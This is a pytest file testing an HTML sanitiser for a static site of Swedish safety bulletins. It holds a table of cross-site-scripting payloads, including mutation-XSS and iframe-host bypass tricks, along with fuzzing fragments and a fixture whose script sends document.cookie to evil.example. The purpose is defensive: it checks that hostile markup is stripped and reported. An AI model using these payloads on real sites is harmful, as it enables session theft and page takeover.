"""Safe bodies: raw HTML in a bulletin goes through an allow-list (nh3) before any output.

The policy is tested as plain functions (a table of hostile inputs and what comes out, and
seeded random strings of hostile fragments), then real builds show that a hostile body is gone
from every output, with one exact warning per removal that stops ``--strict`` and that
``bulletins check`` reports too, and that a site can let an iframe from one host through.
"""
from __future__ import annotations

import json
import os
import random
import subprocess
import sys
from collections import Counter
from html.parser import HTMLParser

import markdown
import nh3
import pypdf
import pytest
import yaml
from lxml import etree

from bulletin_site import removals, sanitize
from bulletin_site.i18n import Translator
from conftest import BASE_CONFIG, FIXED_EPOCH, REPO, Project, bulletins_here, search_index

SLUG = "2023-05-12-brandrisk"
FILE = f"bulletins/{SLUG}.md"
NS = {"content": "http://purl.org/rss/1.0/modules/content/"}

# ---- the policy as a plain function ------------------------------------------------------------

HOSTILE = [
    # (what a body's HTML holds, what is published)
    ('<p>a</p><script>alert(1)</script>', '<p>a</p>'),
    ('<p>a</p><SCRIPT SRC="https://evil.example/x.js"></SCRIPT>', '<p>a</p>'),
    ('<style>body{display:none}</style><p>a</p>', '<p>a</p>'),
    ('<p><img src="a.png" onerror="alert(1)" alt="A" /></p>', '<p><img src="a.png" alt="A" /></p>'),
    ('<p onclick="x()" onmouseover="y()">a</p>', '<p>a</p>'),
    ('<p><a href="javascript:alert(1)">a</a></p>', '<p><a>a</a></p>'),
    ('<p><a href="JaVaScRiPt:alert(1)">a</a></p>', '<p><a>a</a></p>'),
    ('<p><a href="java&#x09;script:alert(1)">a</a></p>', '<p><a>a</a></p>'),
    ('<p><a href=" &#106;avascript:alert(1)">a</a></p>', '<p><a>a</a></p>'),
    ('<p><a href="vbscript:msgbox(1)">a</a></p>', '<p><a>a</a></p>'),
    ('<p><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">a</a></p>', '<p><a>a</a></p>'),
    ('<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="A" /></p>', '<p><img alt="A" /></p>'),
    ('<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe><p>a</p>', '<p>a</p>'),
    ('<form action="https://evil.example/"><input name="pin" /><button>Skicka</button></form>',
     'Skicka'),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/" /><p>a</p>', '<p>a</p>'),
    ('<object data="x.swf"><embed src="x.swf" /></object><p>a</p>', '<p>a</p>'),
    ('<base href="https://evil.example/" /><link rel="stylesheet" href="x.css" /><p>a</p>',
     '<p>a</p>'),
    ('<svg><script>alert(1)</script></svg><math><mtext>m</mtext></math><p>a</p>', '<p>a</p>'),
    ('<p style="position:fixed;top:0">a</p>', '<p>a</p>'),
    ('<td style="background:url(x)">1</td>', '1'),  # a cell outside a table is not a cell
    ('<table><tr><td style="background:url(x)">1</td></tr></table>',
     '<table><tbody><tr><td>1</td></tr></tbody></table>'),
    ('<blockquote cite="javascript:alert(1)">q</blockquote>', '<blockquote>q</blockquote>'),
    ('<p>a<!-- <script>alert(1)</script> --></p>', '<p>a</p>'),
    ('<p>x</p><!--><script>alert(1)</script><!---->', '<p>x</p>'),
    # read as a browser reads it: the <img> is outside <noscript> (a sanitiser that read it
    # inside would publish it whole)
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
     '<img src="x" />"&gt;<p></p>'),
    ('<textarea><script>alert(1)</script></textarea><p>a</p>', '<p>a</p>'),
    ('<p><a href="/om/" target="_blank" name="x">a</a></p>', '<p><a href="/om/">a</a></p>'),
    ('<p>a<br>b<hr>', '<p>a<br />b</p><hr />'),
    # Material reads its settings from the first element with this id
    ('<div id="__config">{"base": "https://evil.example/"}</div>', '<div>{"base": "https://evil.example/"}</div>'),
    ('<p title="a&quot;b&#10;c">x &amp; y &lt; z</p>', '<p title="a&quot;b&#10;c">x &amp; y &lt; z</p>'),
]


@pytest.mark.parametrize(("given", "published"), HOSTILE)
def test_the_policy_removes_what_can_run_code_or_take_over_the_page(given, published):
    assert sanitize.Policy().clean(given) == published


MARKDOWN = """\
Inledning med **fet**, *kursiv*, `kod & <x>`, "citat" och 'enkla' – åäö & 5 > 3.

## Råd till boende {: .viktig #rad title="Råd" }

- punkt med [länk](https://www.smhi.se/?a=1&b=2 "SMHI")
- punkt med [intern](../om/) och <https://krisinformation.se/>

1. ett
2. två

| Plats | Tid | Antal |
|:------|:---:|------:|
| Torget | 12:00 | 3 |

!!! warning "Eldningsförbud"
    Elda inte.

![Karta](../bilder/karta.png "Kartan"){ width=300 loading=lazy }

> Citat

    kod &amp; <pre>

Rad ett om SMHI  
rad två

---

*[SMHI]: Sveriges meteorologiska och hydrologiska institut
"""


def test_what_markdown_and_the_sites_extensions_write_is_published_byte_for_byte():
    html = markdown.Markdown(extensions=["admonition", "attr_list", "tables", "toc", "abbr"],
                             output_format="xhtml").convert(MARKDOWN)
    assert "<abbr" in html and "<table>" in html and 'class="admonition warning"' in html
    assert sanitize.Policy().clean(html) == html


def test_harmless_raw_html_is_published_as_written():
    given = '<div class="ruta"><p>Text<br>mer</p><img src="a.png" alt="A"></div>'
    assert sanitize.Policy().clean(given) == given


def test_a_body_with_something_removed_is_written_as_markdown_writes_html():
    given = '<div class="ruta"><p>Text<br>mer<img src="a.png" onload="x()"></p></div>'
    assert sanitize.Policy().clean(given) == '<div class="ruta"><p>Text<br />mer<img src="a.png" /></p></div>'


def test_an_allowed_iframe_keeps_its_address_only_from_an_allowed_host():
    policy = sanitize.Policy([("iframe", ("src", "title", "allowfullscreen"))], ["www.youtube-nocookie.com"])
    good = '<iframe src="https://www.youtube-nocookie.com/embed/x" title="Film" allowfullscreen></iframe>'
    assert policy.clean(good) == ('<iframe src="https://www.youtube-nocookie.com/embed/x" title="Film" '
                                  'allowfullscreen=""></iframe>')
    for address in ("https://evil.example/embed/x", "http://www.youtube-nocookie.com/embed/x",
                    "//www.youtube-nocookie.com/embed/x", "https://www.youtube-nocookie.com.evil.example/",
                    "https://www.youtube-nocookie.com@evil.example/",
                    "https://evil.example\\@www.youtube-nocookie.com/embed/x",  # a browser loads evil.example
                    "https://www.youtube-nocookie.com:x/", "javascript:alert(1)"):
        assert policy.clean(f'<p>a</p><iframe src="{address}" title="Film"></iframe>') == "<p>a</p>", address


def test_an_allowed_iframe_publishes_nothing_of_what_it_holds():
    policy = sanitize.Policy([("iframe", ("src",))], ["www.youtube-nocookie.com"])
    given = '<iframe src="https://www.youtube-nocookie.com/embed/x"><script>alert(1)</script></iframe>'
    assert policy.clean(given) == '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>'


REMOVALS = [
    ('<script>alert(1)</script>', "the <script> element was removed"),
    ('<img src="a.png" onerror="alert(1)" />', "the onerror attribute of <img> was removed"),
    ('<a href="javascript:alert(1)">a</a>', "the javascript: link was removed (its text is kept)"),
    ('<img src="data:image/png;base64,AAAA" />', "the data: address in <img src> was removed"),
    ('<iframe src="https://www.youtube.com/embed/x"></iframe>', "the <iframe> element was removed"),
    ('<meta http-equiv="refresh" content="0" />', "the <meta> element was removed"),
    # comments end where a browser ends them: nothing hides a script from the report
    ('<p>x</p><!--><script>alert(1)</script><!---->', "the <script> element was removed"),
    ('<p>x</p><![CDATA[><script>alert(1)</script>]]>', "the <script> element was removed"),
    ('<p>x</p><!-- a --!><script>alert(1)</script><!-- b -->', "the <script> element was removed"),
    ('<h2 id="__config">R</h2>', "the id '__config' of <h2> was removed: ids beginning with __ belong to "
                                "the page around the bulletin"),
]


@pytest.mark.parametrize(("given", "message"), REMOVALS)
def test_each_removal_is_named(given, message):
    removal, = sanitize.Policy().removals(given)
    assert removals.describe(removal, Translator("en"))[0] == message


def test_a_refused_iframe_host_is_named():
    policy = sanitize.Policy([("iframe", ("src",))], ["www.youtube-nocookie.com"])
    removal, = policy.removals('<iframe src="https://www.youtube.com/embed/x"></iframe>')
    assert removals.describe(removal, Translator("en")) == (
        "the frame (<iframe>) from www.youtube.com was removed",
        "link to the page instead, or add www.youtube.com to extra.bulletins.allow_iframe_hosts "
        "if the site trusts it (https only)")


def test_each_removal_is_located_at_its_own_line_of_the_markdown(tmp_path):
    # "ß" case-folds to "ss": the search must count lines in the text it searched
    (tmp_path / "b.md").write_text("---\ntitle: x\n---\n" + "ß" * 40 + "\n\n<p onclick=x>a</p>\n\n"
                                   "<p onclick=x>b</p>\n", encoding="utf-8")
    sanitizer = removals.BodySanitizer(tmp_path, Translator("en"), sanitize.Policy())
    html = "<p>" + "ß" * 40 + "</p>\n<p onclick=x>a</p>\n<p onclick=x>b</p>"
    assert [str(p) for p in sanitizer.problems(html, "b.md")] == [
        f"b.md:{line}: body: the onclick attribute of <p> was removed — remove onclick from the "
        "text; event handlers (on…) and styles are not published" for line in (6, 8)]


# Fragments of hostile and tricky HTML; random strings of them try the sanitiser's two claims.
FRAGMENTS = [
    "<p>", "</p>", "<br>", "<br />", "<hr/>", "<img src=x onerror=alert(1)>", "<a href='javascript:x'>",
    "</a>", "<a href=\"/ok\" title='a\"b>c'>", "<script>", "</script>", "</ iframe>",
    "<iframe src=\"https://ok.example/x\">", "<iframe src=https://bad.example/>", "</iframe>", "<!--",
    "-->", "<!-->", "--!>", "<noscript>", "</noscript>", "<style>", "</style>", "<textarea>", "<svg>",
    "</svg>", "<math>", "<mglyph>", "<table>", "<td>", "</td>", "<tr>", "x", " ", "\n", "&amp;", "&",
    "&lt;", "<", ">", "\"", "'", "&nbsp;", "\u00a0", "<pre>", "</pre>", "<div class=\"a\">", "</div>",
    "<template>", "</template>", "<xmp>", "</xmp>", "<title>", "<p title=\"</p><script>alert(1)</script>\">",
    "<a href=\"java&#x09;script:1\">", "<form>", "<input>", "<select><option>", "<plaintext>",
    "<td style=\"text-align: left;\">", "<th style=\"color:red\">", "<img src=\"data:image/png;base64,AA\" />",
    "<![CDATA[", "]]>", "<?x ?>", "<!DOCTYPE html>", "/>", " />", "<b", "<b ", "=", "<code>", "</code>",
    "<h2 id=\"a\" onclick=\"x\">", "</h2>", "<blockquote cite=\"javascript:x\">", "<div id=\"__config\">",
]
POLICIES = [sanitize.Policy(), sanitize.Policy([("iframe", ("src", "title"))], ["ok.example"])]


def _start_tags(html: str) -> Counter:
    """Each start tag and each element's attribute, counted (what a browser would build)."""
    found: Counter = Counter()

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.update([tag, *(f"{tag}@{name}" for name, _ in attrs)])

        handle_startendtag = handle_starttag

    Tags(convert_charrefs=True).feed(html)
    return found


def _random_bodies(seed: int, count: int = 1500):
    rng = random.Random(seed)
    for _ in range(count):
        yield "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 14)))


def test_a_published_body_holds_nothing_a_second_pass_would_remove():
    for body in _random_bodies(1):
        for policy in POLICIES:
            published = policy.clean(body)
            assert not _start_tags(published) - _start_tags(policy.clean(published)), body
            assert policy.removals(published) == [], body


def test_whatever_nh3_removes_is_reported():
    everything = nh3.Cleaner(
        tags=set(sanitize.HTML_ELEMENTS | sanitize.NEVER_ELEMENTS) - {"html", "head", "body"},
        clean_content_tags=set(), attributes={"*": {"src", "href", "onerror", "onclick", "title", "class",
                                                    "id", "style", "cite", "name", "http-equiv"}},
        url_schemes={"http", "https", "javascript", "data", "vbscript"}, link_rel=None)
    policy = sanitize.Policy()
    for body in _random_bodies(2, 3000):
        removed = _start_tags(everything.clean(body)) - _start_tags(policy.clean(body))
        removals = policy.removals(body)
        named = {r.element for r in removals if r.kind == "element"}
        named |= {f"{r.element}@{r.attribute}" for r in removals if r.kind != "element"}
        if not named & sanitize.CONTENT_REMOVED:  # else what it held is not named one by one
            assert set(removed) <= named | {key for key in removed if key.split("@")[0] in named}, body


# ---- the settings ------------------------------------------------------------------------------

def test_allow_html_options_are_normalised():
    assert sanitize.validated_options({"IFRAME": ["src", "Title", "src"], "video": None},
                                      ["WWW.YouTube-nocookie.com"]) == (
        (("iframe", ("src", "title")), ("video", ())), ("www.youtube-nocookie.com",))


REFUSED_OPTIONS = [
    ({"script": ["src"]}, [],
     "extra.bulletins.allow_html: 'script' can never be allowed: it can run code, send forms or "
     "change the page around the bulletin — remove 'script' from allow_html"),
    ({"blink-tag": []}, [],
     "extra.bulletins.allow_html: 'blink-tag' is not an HTML element — write the element's name, e.g. iframe"),
    ({"iframe": ["src", "onload"]}, ["www.youtube-nocookie.com"],
     "extra.bulletins.allow_html: the attribute 'onload' of 'iframe' can never be allowed: it can run "
     "code, style the page or load a page of its own — remove 'onload' from the list"),
    ({"iframe": ["srcdoc"]}, [],
     "extra.bulletins.allow_html: the attribute 'srcdoc' of 'iframe' can never be allowed: it can run "
     "code, style the page or load a page of its own — remove 'srcdoc' from the list"),
    ({"iframe": "src"}, [],
     "extra.bulletins.allow_html: the attributes of 'iframe' must be a list — write e.g. "
     "'iframe: [title]', or 'iframe: []' for the element without attributes"),
    ({"iframe": ["src"]}, [],
     "extra.bulletins.allow_iframe_hosts: allow_html allows src on iframe but no host is allowed — "
     "list the hosts whose frames may be shown, e.g. 'allow_iframe_hosts: [www.youtube-nocookie.com]'"),
    ({"iframe": ["src"]}, ["https://www.youtube-nocookie.com/embed"],
     "extra.bulletins.allow_iframe_hosts: 'https://www.youtube-nocookie.com/embed' is not a host name — "
     "write the host name alone, without https:// and path, e.g. www.youtube-nocookie.com"),
    ({}, ["www.youtube-nocookie.com"],
     "extra.bulletins.allow_iframe_hosts: the hosts are not used: allow_html does not allow iframe "
     "with src — add 'iframe: [src, title]' to allow_html, or remove allow_iframe_hosts"),
]


@pytest.mark.parametrize(("allow_html", "hosts", "message"), REFUSED_OPTIONS)
def test_dangerous_or_unknown_allow_html_is_refused(allow_html, hosts, message):
    with pytest.raises(sanitize.PolicyError) as caught:
        sanitize.validated_options(allow_html, hosts)
    problem, = caught.value.as_problems(Translator("en"))
    assert str(problem) == f"mkdocs.yml: {message}"


# ---- real builds -------------------------------------------------------------------------------

HOSTILE_BODY = """\
Det råder eldningsförbud.

<script>fetch("https://evil.example/?c=" + document.cookie)</script>

<img src="../../bilder/karta.png" alt="Karta" onerror="alert('img')">

Läs [mer här](javascript:alert(1)).

<meta http-equiv="refresh" content="0;url=https://evil.example/">

## Råd {: onclick="alert('rubrik')" }

Grilla inte.

<noscript>Ring 020-evil.example nu</noscript>
"""

WARNINGS_SV = [
    f"{FILE}:12: body: elementet <script> togs bort — ta bort <script> ur texten; skript, ramar, "
    "formulär och stilar publiceras inte (en webbplats kan tillåta vissa element i extra.bulletins.allow_html)",
    f"{FILE}:14: body: attributet onerror på <img> togs bort — ta bort onerror ur texten; "
    "händelseattribut (on…) och stilar publiceras inte",
    f"{FILE}:16: body: javascript:-länken togs bort (texten står kvar) — länka bara till http-, https-, "
    "mailto- och tel-adresser eller till sidor och bilder på webbplatsen (bilder läggs i docs/)",
    f"{FILE}:18: body: elementet <meta> togs bort — ta bort <meta> ur texten; skript, ramar, "
    "formulär och stilar publiceras inte (en webbplats kan tillåta vissa element i extra.bulletins.allow_html)",
    f"{FILE}:20: body: attributet onclick på <h2> togs bort — ta bort onclick ur texten; "
    "händelseattribut (on…) och stilar publiceras inte",
    f"{FILE}:24: body: elementet <noscript> togs bort — ta bort <noscript> ur texten; skript, ramar, "
    "formulär och stilar publiceras inte (en webbplats kan tillåta vissa element i extra.bulletins.allow_html)",
]

TRACES = ("evil.example", "document.cookie", "alert", "onerror", "onclick", "javascript:", "http-equiv")


def warnings(result: subprocess.CompletedProcess) -> list[str]:
    return [line.split("bulletins: ", 1)[1] for line in result.stderr.splitlines()
            if line.startswith("WARNING") and "bulletins: " in line]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A site with one hostile bulletin, built without --strict (the outputs are then written)."""
    root = tmp_path_factory.mktemp("hostile")
    p = Project(root)
    p.write("mkdocs.yml", yaml.safe_dump(BASE_CONFIG, allow_unicode=True))
    p.write("docs/index.md", "# Trygghet i Exempelby\n")
    p.write("docs/bilder/karta.png", bytes.fromhex("89504e470d0a1a0a"))
    p.bulletin(SLUG, body=HOSTILE_BODY)
    env = {**os.environ, "SOURCE_DATE_EPOCH": FIXED_EPOCH, "NO_MKDOCS_2_WARNING": "1"}
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "-d", str(p.site)],
                            cwd=root, env=env, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    return p, result


def test_a_hostile_body_gives_one_warning_per_removal_with_file_and_line(hostile):
    _, result = hostile
    assert warnings(result) == WARNINGS_SV


def test_a_hostile_body_fails_a_strict_build(project):
    project.bulletin(SLUG, body=HOSTILE_BODY)
    result = project.build(check=False)
    assert result.returncode == 1
    assert warnings(result) == WARNINGS_SV
    assert "Aborted with 6 warnings in strict mode!" in result.stdout + result.stderr


@pytest.mark.parametrize("uri", [f"bulletins/{SLUG}/index.html", f"bulletins/{SLUG}/print/index.html"])
def test_a_hostile_body_is_gone_from_the_page_and_the_print_page(hostile, uri):
    p, _ = hostile
    text = p.read(uri)
    assert "Grilla inte." in text and "Läs <a>mer här</a>." in text
    assert [trace for trace in TRACES if trace in text] == []


def test_a_hostile_body_is_gone_from_the_search_index(hostile):
    p, _ = hostile
    text = search_index(p.site)[f"bulletins/{SLUG}/"]["content"]
    assert "Läs mer här." in text and "Grilla inte." in text
    assert [trace for trace in TRACES if trace in text] == []


def test_a_hostile_body_is_gone_from_the_rss_full_text(hostile):
    p, _ = hostile
    root = etree.fromstring((p.site / "feed.xml").read_bytes())
    content = root.find("channel/item").findtext("content:encoded", namespaces=NS)
    assert content == (
        '<div><p>Det råder eldningsförbud.</p>\n\n\n'
        '<p><img src="https://trygghet.example.se/bilder/karta.png" alt="Karta"></p>\n'
        '<p>Läs <a>mer här</a>.</p>\n<p></p>\n'  # the <meta> was in a paragraph of its own
        '<h2 id="rad">Råd</h2>\n<p>Grilla inte.</p>\n</div>')


def test_a_hostile_body_is_gone_from_the_json_feed(hostile):
    p, _ = hostile
    item, = json.loads(p.read("feed.json"))["items"]
    assert "Grilla inte." in item["content_html"]
    assert [trace for trace in TRACES if trace in item["content_html"]] == []


def test_a_style_in_a_body_does_not_reach_the_pdf(project):
    project.configure(bulletins={"pdf": True, "pdf_cache": str(project.root / "pdf-cache")})
    project.bulletin(SLUG, body="<style>body { display: none }</style>\n\nGrilla inte.\n")
    result = project.build(strict=False)  # the warning stops a strict build, which publishes nothing
    assert warnings(result) == [
        f"{FILE}:10: body: elementet <style> togs bort — ta bort <style> ur texten; skript, ramar, "
        "formulär och stilar publiceras inte (en webbplats kan tillåta vissa element i extra.bulletins.allow_html)"]
    pdf = pypdf.PdfReader(project.site / "bulletins" / SLUG / f"{SLUG}.pdf")
    assert "Grilla inte." in "\n".join(page.extract_text() for page in pdf.pages)


def test_removals_are_warned_in_english_on_an_english_site(project):
    project.configure(theme={**BASE_CONFIG["theme"], "language": "en"})
    project.bulletin(SLUG, body="Text.\n\n<iframe src=\"https://evil.example/\"></iframe>\n")
    result = project.build(check=False)
    assert warnings(result) == [
        f"{FILE}:12: body: the <iframe> element was removed — remove <iframe> from the text; scripts, "
        "frames, forms and styles are not published (a site can allow some elements in "
        "extra.bulletins.allow_html)"]


VIDEO = "https://www.youtube-nocookie.com/embed/abc"


def test_a_site_can_allow_iframes_from_one_host_and_refuses_another(project):
    project.configure(bulletins={"allow_html": {"iframe": ["src", "title", "allowfullscreen"]},
                                 "allow_iframe_hosts": ["www.youtube-nocookie.com"]})
    project.bulletin(SLUG, body=(
        f'Se filmen.\n\n<iframe src="{VIDEO}" title="Film" allowfullscreen></iframe>\n\n'
        '<iframe src="https://video.evil.example/embed/abc" title="Film"></iframe>\n'))
    result = project.build(strict=False)  # the warning stops a strict build, which publishes nothing
    assert warnings(result) == [
        f"{FILE}:14: body: ramen (<iframe>) från video.evil.example togs bort — länka till sidan i "
        "stället, eller lägg till video.evil.example i extra.bulletins.allow_iframe_hosts om "
        "webbplatsen litar på den (bara https)"]
    page = project.read(f"bulletins/{SLUG}/index.html")
    assert f'<iframe src="{VIDEO}" title="Film" allowfullscreen=""></iframe>' in page
    assert "evil.example" not in page
    assert VIDEO in project.read(f"bulletins/{SLUG}/print/index.html")


def test_a_script_in_allow_html_stops_the_build_and_check(project):
    project.configure(bulletins={"allow_html": {"script": ["src"]}})
    project.bulletin(SLUG)
    message = ("mkdocs.yml: extra.bulletins.allow_html: 'script' kan aldrig tillåtas: det kan köra "
               "kod, skicka formulär eller ändra sidan runt meddelandet — ta bort 'script' ur allow_html")
    result = project.build(check=False)
    assert result.returncode == 1 and message in result.stderr
    env = {**os.environ, "PYTHONPATH": str(REPO / "hooks"), "SOURCE_DATE_EPOCH": FIXED_EPOCH}
    check = subprocess.run([sys.executable, "-m", "bulletin_site.cli", "check"], cwd=project.root,
                           env=env, capture_output=True, text=True)
    assert check.returncode == 1 and message in check.stdout


def check(project) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(REPO / "hooks"), "SOURCE_DATE_EPOCH": FIXED_EPOCH}
    return bulletins_here(["check"], project.root, env)


def test_check_reports_what_the_build_removes_with_the_same_lines(project):
    project.bulletin(SLUG, body=HOSTILE_BODY)
    result = check(project)
    assert result.returncode == 1
    assert result.stdout.splitlines() == WARNINGS_SV


def test_check_names_a_heading_whose_id_would_be_the_pages_own(project):
    project.bulletin(SLUG, body="Text med [länk](https://www.smhi.se/) och [sida](../om.md).\n\n## Råd\n")
    project.bulletin("2023-05-13-rubrik", date="2023-05-13", body="Text.\n\n## __config\n")
    assert check(project).stdout.splitlines() == [
        "bulletins/2023-05-13-rubrik.md:12: body: id '__config' på <h2> togs bort: id som börjar med __ "
        "hör till sidan runt meddelandet — välj ett id utan __ i början"]


MAY_HOLD = [
    ("Text [a](https://x.se \"Titel\") och [b](../om.md), [c](mailto:a@x.se), [d](tel:+4612).\n", False),
    ("## Råd\n\nText mer > mindre.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n", False),
    ("## Råd\n\nBrand &amp; rök.\n", True),  # beside a heading, "&" could spell "_" (&lowbar;)
    ("Text [a](javascript:alert(1)).\n", True),
    ("Text [a]( JAVA\tscript:x).\n", True),
    ("Text [a](&#106;avascript:x).\n", True),
    ("[a]: javascript:x\n\nSe [a].\n", True),
    ("[a]:\n  <vbscript:x>\n", True),
    ("Text [a](ftp://x.se/).\n", True),
    ("Text\n\n<b>x</b>\n", True),
    ("Rubrik {: #__config }\n", True),
    ("## ＿＿config\n", True),  # toc reads the fullwidth low line as "_"
    ("_!_config\n=====\n", True),  # toc drops "!": the id is __config
    ("> [id]: data:x\n", True),  # a reference inside a quote, an admonition or a list
    ("[a]([b](javascript:x))\n", True),
]


@pytest.mark.parametrize(("body", "may"), MAY_HOLD)
def test_which_bodies_check_renders(body, may):
    assert removals.may_hold_removals(body) is may


def test_a_body_check_does_not_render_holds_nothing_to_remove():
    pieces = ["Text ", "[a](", "https://x.se", "javascript:x", "data:x", "tel:1", "../om.md", ")", " \"T: t\"",
              "\n", "\n\n", "## ", "_", "!", "config", "[id]: ", "[id]", "&#106;", "&amp;", "*", "`", "| a |\n|---|\n",
              "!!! note\n    ", "    ", "\\", "==\n", "--\n", "1. ", "- ", "> "]
    engine = markdown.Markdown(extensions=["toc", "tables", "fenced_code", "admonition", "attr_list"])
    policy, rng = sanitize.Policy(), random.Random(3)
    for _ in range(3000):
        body = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 16)))
        engine.reset()
        html = engine.convert(body)
        if policy.clean(html) != html and policy.removals(html):
            assert removals.may_hold_removals(body), body


def test_allow_html_of_the_wrong_type_is_refused_by_mkdocs_config_validation(project):
    project.configure(bulletins={"allow_html": ["iframe"]})
    project.bulletin(SLUG)
    result = project.build(check=False)
    assert result.returncode == 1
    assert "extra.bulletins.allow_html: Expected type: <class 'dict'> but received: <class 'list'>" in result.stderr
